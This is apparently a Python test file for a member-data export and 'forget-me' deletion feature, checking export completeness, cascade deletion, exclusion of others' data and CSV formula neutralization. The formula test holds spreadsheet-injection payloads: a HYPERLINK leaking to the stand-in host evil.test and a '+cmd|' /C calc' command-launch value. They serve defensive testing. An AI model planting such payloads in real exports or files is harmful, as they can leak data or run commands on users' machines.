"""A member's data is theirs (issue 10, item 13): export holds everything they own or made,
its CSVs are safe to open in a spreadsheet, and forget-me deletes every one of those rows.
On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import func, select

from core.dashboard import Dashboard, Organizer
from core.handlers import privacy
from core.models import Base, Member
from core.service import Actor
from core.ui import Reply
from tests.integration.test_intros import FakePlatform, ok, sweep
from tests.network_files import NEWER_ROW, VCARD, linkedin_csv

EVIL_NAME = '=HYPERLINK("http://evil.test/?leak","Click me")'


@pytest.fixture
def carol():
    return Actor("console", "local", "carol", display_name="Carol Jones")


@pytest.fixture
def org():
    return Actor("console", "local", "org", display_name="Olga Organizer", is_organizer=True)


def action(reply: Reply, prefix: str) -> str:
    return next(b.action_id for b in reply.buttons if b.action_id.startswith(prefix))


async def one_of_everything(core, clock, alice, bob, carol, org) -> None:
    """Alice owns or made a row in every table that can name her."""
    platform = FakePlatform()
    core.set_public_url("https://rapport.example.org")
    await ok(core, org, "admin channel <#C0INTROS|intros>")
    await ok(core, alice, "goal product marketing at a B2B SaaS company")
    await ok(core, alice, "settings tz: Europe/Berlin quiet: 22:00-07:30 digest: off")
    await ok(core, alice, "log Jane Doe when: yesterday notes: talked about SEO referrals: Bob Li")
    await ok(core, alice, "reached-out Ana Ruiz via: email follow-up: next tuesday 10am")
    await ok(core, alice, "scheduled Kim Lee when: tomorrow 10am where: Blue Bottle")
    await ok(core, alice, "offer fields: design companies: Acme per-month: 2")
    await ok(core, alice, "intro product marketing at a SaaS company note: alice's own request")
    # An offer she made on Bob's open request.
    await ok(core, bob, "intro UX research note: bob's request")
    await sweep(core, clock, platform)
    bobs_post = next(post for _, _, post in platform.posts if "Bob Builder" in post.title + post.text)
    glad = next(b for b in bobs_post.buttons if b.label == "I'd be glad to chat")
    assert not (await core.press(alice, glad.action_id)).error
    # A direct ask addressed to her.
    await ok(core, carol, "intro <@alice> note: carol asks alice")
    # Imported contacts, and a second file waiting for her confirmation.
    preview = await core.import_file(alice, "Connections.csv", linkedin_csv(NEWER_ROW))
    assert not (await core.press(alice, action(preview, "import:confirm:"))).error
    assert not (await core.import_file(alice, "contacts.vcf", VCARD)).error
    await ok(core, alice, "calendar")
    await ok(core, Actor("console", "local", "alice", display_name="Alice Example", is_organizer=True),
              "admin dashboard")
    board = Dashboard(core.db, clock)
    await board.sign_in((await board.create_link(Organizer("console", "local", "alice"))).token)
    # Someone else's data, which must not show up in hers.
    await ok(core, bob, "log Zed Secret when: yesterday notes: bob's private note")


async def owned_counts(sessionmaker, member_id: int, actor: Actor) -> dict[str, int]:
    counts: dict[str, int] = {}
    async with sessionmaker() as session:
        for name, model, column in privacy.EXPORTED:
            counts[name] = await session.scalar(select(func.count()).select_from(model).where(column == member_id))
        for name, model in privacy.BY_PLATFORM_IDS:
            counts[name] = await session.scalar(
                select(func.count()).select_from(model).where(
                    model.platform == actor.platform, model.workspace_id == actor.workspace_id,
                    model.user_id == actor.user_id))
    return counts


def export_files(reply: Reply) -> tuple[dict, list[dict], list[dict]]:
    data = json.loads(reply.files[0].content)
    contacts = list(csv.DictReader(io.StringIO(reply.files[1].content.decode())))
    meetings = list(csv.DictReader(io.StringIO(reply.files[2].content.decode())))
    return data, contacts, meetings


def test_every_table_that_names_a_member_is_exported():
    """A new table with a foreign key to members (or a member's platform ids) must be added to
    the export, and so, by its ON DELETE CASCADE, to what forget-me deletes."""
    exported = {(model.__table__.name, column.key) for _, model, column in privacy.EXPORTED}
    by_ids = {model.__table__.name for _, model in privacy.BY_PLATFORM_IDS}
    for table in Base.metadata.sorted_tables:
        for fk in table.foreign_keys:
            if fk.column.table.name != "members":
                continue
            if (table.name, fk.parent.name) == ("contacts", "referred_by_member_id"):
                # Someone else's contact that she referred: theirs; forget-me makes it anonymous.
                assert fk.ondelete == "SET NULL"
                continue
            assert (table.name, fk.parent.name) in exported, f"{table.name}.{fk.parent.name} is not exported"
            assert fk.ondelete == "CASCADE", f"{table.name}.{fk.parent.name}"
        if {"platform", "user_id"} <= set(table.c.keys()) and table.name != "members":
            assert table.name in by_ids, f"{table.name} names members by platform ids and is not exported"


async def test_export_has_one_of_everything_and_forget_me_deletes_it_all(core, clock, alice, bob, carol, org,
                                                                        sessionmaker):
    await one_of_everything(core, clock, alice, bob, carol, org)
    async with sessionmaker() as session:
        alice_id = await session.scalar(select(Member.id).where(Member.user_id == "alice"))
    before = await owned_counts(sessionmaker, alice_id, alice)
    assert all(before.values()), before  # the scenario reaches every table

    reply = await core.run_text(alice, "export")
    assert not reply.error
    data, contacts, meetings = export_files(reply)
    for name, count in before.items():
        assert len(data[name]) == count, name
    assert data["member"]["goal"] == "product marketing at a B2B SaaS company"
    assert data["member"]["tz"] == "Europe/Berlin" and data["member"]["digest"] is False
    assert "dm_channel_id" not in data["member"]
    assert {c["name"] for c in data["contacts"]} >= {"Jane Doe", "Bob Li", "Ana Ruiz", "Kim Lee", "Cy Oh"}
    assert any(c["source"] == "linkedin" for c in data["contacts"])  # imported
    assert data["meetings"][0]["notes"] == "talked about SEO"
    assert data["intro_requests"][0]["note"] == "alice's own request"
    assert data["intro_requests_to_you"][0]["note"] == "carol asks alice"
    assert data["intro_offers"][0]["kind"] and data["helper_offers"][0]["fields"] == "design"
    assert data["pending_imports"][0]["filename"] == "contacts.vcf"
    assert data["calendar_feeds"] and data["dashboard_links"] and data["nudges"] and data["outreach"]
    # Hashes of her calendar address and sign-in link are credentials: not in the file.
    raw = reply.files[0].content.decode()
    assert "token_hash" not in raw and "session_hash" not in raw
    # Nobody else's data.
    assert "Zed Secret" not in raw and "bob's private note" not in raw and "bob's request" not in raw
    assert {c["name"] for c in contacts} == {c["name"] for c in data["contacts"]}
    assert len(meetings) == len(data["meetings"])

    done = await core.press(alice, "forget:confirm")
    assert "deleted" in done.title
    after = await owned_counts(sessionmaker, alice_id, alice)
    assert not any(after.values()), after
    async with sessionmaker() as session:
        assert await session.scalar(select(func.count()).select_from(Member).where(Member.user_id == "alice")) == 0
        # Others keep theirs.
        assert await session.scalar(select(func.count()).select_from(Member).where(Member.user_id == "bob")) == 1
    assert "Zed Secret" in plain(await core.run_text(bob, "contacts"))


def plain(reply: Reply) -> str:
    from core.ui import plain_text

    return plain_text(reply)


async def test_export_csv_neutralizes_formulas_and_json_keeps_them(core, alice):
    # A contacts file is the easy way to smuggle a formula in: a LinkedIn row named like one.
    row = '"=HYPERLINK(""http://evil.test/?leak"",""Click me"")",Doe,https://www.linkedin.com/in/x,,@SUM(A1:A9),-1+1,01 Oct 2026'
    preview = await core.import_file(alice, "Connections.csv", linkedin_csv(row))
    assert not (await core.press(alice, action(preview, "import:confirm:"))).error
    await ok(core, alice, "add Ann Lee company: Acme role: +cmd|' /C calc'!A0")
    await ok(core, alice, "log Jane Doe when: yesterday notes: -2+3 is what she said")
    reply = await core.run_text(alice, "export")
    data, contacts, meetings = export_files(reply)

    by_name = {c["name"]: c for c in data["contacts"]}  # JSON: exactly as it came
    evil = by_name[EVIL_NAME + " Doe"]
    assert evil["company"] == "@SUM(A1:A9)" and evil["role"] == "-1+1"
    assert by_name["Ann Lee"]["role"] == "+cmd|' /C calc'!A0"
    assert data["meetings"][0]["notes"] == "-2+3 is what she said"

    by_name = {c["name"]: c for c in contacts}  # CSV: shown as text by a spreadsheet
    evil = by_name["'" + EVIL_NAME + " Doe"]
    assert evil["company"] == "'@SUM(A1:A9)" and evil["role"] == "'-1+1"
    assert by_name["Ann Lee"]["role"] == "'+cmd|' /C calc'!A0" and by_name["Ann Lee"]["company"] == "Acme"
    assert meetings[0]["notes"] == "'-2+3 is what she said"
    for row in contacts + meetings:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values() if v), row


def test_csv_neutralizes_tab_and_carriage_return_too():
    out = privacy._csv([{"a": "\t=1+1", "b": "\r=2", "c": "fine", "d": 3, "e": None, "f": "a=b"}]).decode()
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row == {"a": "'\t=1+1", "b": "'\r=2", "c": "fine", "d": "3", "e": "", "f": "a=b"}
